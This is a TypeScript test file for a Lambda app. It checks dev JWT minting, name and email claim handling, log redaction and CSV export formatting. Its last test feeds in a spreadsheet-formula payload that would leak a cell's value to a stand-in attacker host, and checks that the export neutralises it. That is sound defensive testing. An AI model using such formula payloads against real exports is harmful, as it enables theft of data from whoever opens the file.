import type { APIGatewayProxyEventV2 } from 'aws-lambda';
import { decodeJwt } from 'jose';
import { describe, expect, it } from 'vitest';
import { addedByCell, exportRowsOf } from '#app/export-suppressions';
import { actorOf } from '#domain/acting-principal';
import { DEFAULT_CLAIMS, PERSON_CLAIM_LIMITS } from '#domain/roles';
import { redactLogValue } from '#lambda/log-redaction';
import { principalOf } from '#lambda/principal';
import { devCredentialRequestOf, mintDevCredential, verifyDevCredential } from '../../local/dev-credentials';

const SECRET = Buffer.alloc(32, 7).toString('base64');

/** An HTTP API event carrying these verified claims, where API Gateway's JWT authorizer puts them. */
const eventWith = (claims: Record<string, unknown>) =>
  ({
    requestContext: {
      authorizer: {
        jwt: {
          claims: { sub: 'u-1', [DEFAULT_CLAIMS.tenant]: 'acme', [DEFAULT_CLAIMS.role]: 'admin', ...claims },
        },
      },
    },
  }) as unknown as APIGatewayProxyEventV2;

describe('npm run token', () => {
  it('puts --name and --email in the name and email claims', async () => {
    const request = devCredentialRequestOf([
      '--tenant',
      'acme',
      '--role',
      'manager',
      '--user',
      'maria',
      '--name',
      'Maria Silva',
      '--email',
      'maria@example.com',
    ]);
    expect(request).toEqual({
      tenant: 'acme',
      role: 'manager',
      user: 'maria',
      type: 'person',
      name: 'Maria Silva',
      email: 'maria@example.com',
      expiresIn: '12h',
    });
    const claims = await verifyDevCredential(await mintDevCredential(request, SECRET), SECRET);
    expect(claims).toMatchObject({
      sub: 'maria',
      name: 'Maria Silva',
      email: 'maria@example.com',
      [DEFAULT_CLAIMS.role]: 'manager',
    });
  });

  it('leaves both claims out when not asked, and keeps its other defaults', async () => {
    const request = devCredentialRequestOf(['--service']);
    expect(request).toEqual({
      tenant: 'acme',
      role: 'admin',
      user: 'dev-user',
      type: 'service',
      expiresIn: '12h',
    });
    const claims = decodeJwt(await mintDevCredential(request, SECRET));
    expect(claims).not.toHaveProperty('name');
    expect(claims).not.toHaveProperty('email');
  });

  it.each([
    [['--role', 'owner'], '"owner" is not a role'],
    [['--tenant', '_global'], 'tenant'],
    [['--nickname', 'M'], "Unknown option '--nickname'"],
  ])('refuses %j', (args, message) => {
    expect(() => devCredentialRequestOf(args)).toThrow(message);
  });
});

describe('the principal', () => {
  it('keeps the name and email claims beside the user id', () => {
    expect(principalOf(eventWith({ name: 'Maria Silva', email: 'maria@example.com' }))).toEqual({
      tenantId: 'acme',
      userId: 'u-1',
      role: 'admin',
      type: 'person',
      displayName: 'Maria Silva',
      email: 'maria@example.com',
    });
  });

  it('has neither when the credential has none, or blank or non-string ones', () => {
    for (const claims of [{}, { name: '  ', email: '' }, { name: 42, email: ['a@example.com'] }]) {
      const principal = principalOf(eventWith(claims));
      expect(principal).not.toHaveProperty('displayName');
      expect(principal).not.toHaveProperty('email');
    }
  });

  it('turns control characters into spaces, cuts a long name and drops a long address, rather than refusing the caller', () => {
    const principal = principalOf(
      eventWith({ name: ` Maria\n\tSilva${'a'.repeat(400)}`, email: `${'m'.repeat(400)}@example.com` }),
    );
    expect(principal.displayName?.startsWith('Maria  Silva')).toBe(true);
    expect([...(principal.displayName ?? '')]).toHaveLength(PERSON_CLAIM_LIMITS.displayName);
    expect(principal).not.toHaveProperty('email');
    const longest = `${'m'.repeat(PERSON_CLAIM_LIMITS.email - '@example.com'.length)}@example.com`;
    expect(principalOf(eventWith({ email: longest })).email).toBe(longest);
  });

  it('makes an actor that names the person, for a teammate and for a server credential', () => {
    const person = principalOf(eventWith({ name: 'Maria Silva', email: 'maria@example.com' }));
    expect(actorOf(person)).toEqual({
      type: 'user',
      userId: 'u-1',
      displayName: 'Maria Silva',
      email: 'maria@example.com',
    });
    const service = principalOf(eventWith({ [DEFAULT_CLAIMS.type]: 'service', name: 'CRM sync' }));
    expect(actorOf(service)).toEqual({ type: 'api', clientId: 'u-1', displayName: 'CRM sync' });
    expect(actorOf(principalOf(eventWith({})))).toEqual({ type: 'user', userId: 'u-1' });
  });

  it('never reaches the logs in clear: names redacted, addresses masked', () => {
    const principal = principalOf(eventWith({ name: 'Maria Silva', email: 'maria@example.com' }));
    const logged = JSON.stringify(
      {
        principal,
        actor: actorOf(principal),
        record: { addedBy: 'u-1', addedByName: 'Maria Silva', addedByEmail: 'maria@example.com' },
      },
      redactLogValue,
    );
    expect(logged).not.toContain('Maria');
    expect(logged).not.toContain('maria@example.com');
    expect(logged).toContain('m***@example.com');
    expect(logged).toContain('u-1');
  });
});

describe('the added_by cell of the CSV export', () => {
  it.each([
    [
      { addedBy: 'u-1', addedByName: 'Maria Silva', addedByEmail: 'maria@example.com' },
      'Maria Silva <maria@example.com> (u-1)',
    ],
    [{ addedBy: 'u-1', addedByName: 'Maria Silva' }, 'Maria Silva (u-1)'],
    [{ addedBy: 'u-1', addedByEmail: 'maria@example.com' }, 'maria@example.com (u-1)'],
    [{ addedBy: 'maria@example.com', addedByEmail: 'maria@example.com' }, 'maria@example.com'],
    [{ addedBy: 'u-1' }, 'u-1'],
    [{}, ''],
  ])('shows %j as %j', (record, cell) => {
    expect(addedByCell(record)).toBe(cell);
  });

  it('neutralizes a name crafted as a formula', () => {
    const [row] = exportRowsOf({
      tenantId: 'acme',
      kind: 'email',
      valueHash: 'h',
      value: 'lea@example.com',
      createdAt: '2026-03-01T00:00:00.000Z',
      updatedAt: '2026-03-01T00:00:00.000Z',
      sources: {
        admin: {
          at: '2026-03-01T00:00:00.000Z',
          addedBy: 'u-1',
          addedByName: '=HYPERLINK("http://evil.example/?"&A2,"x")',
        },
      },
      version: 1,
    });
    expect(row?.[4]).toBe('\'=HYPERLINK("http://evil.example/?"&A2,"x") (u-1)');
  });
});
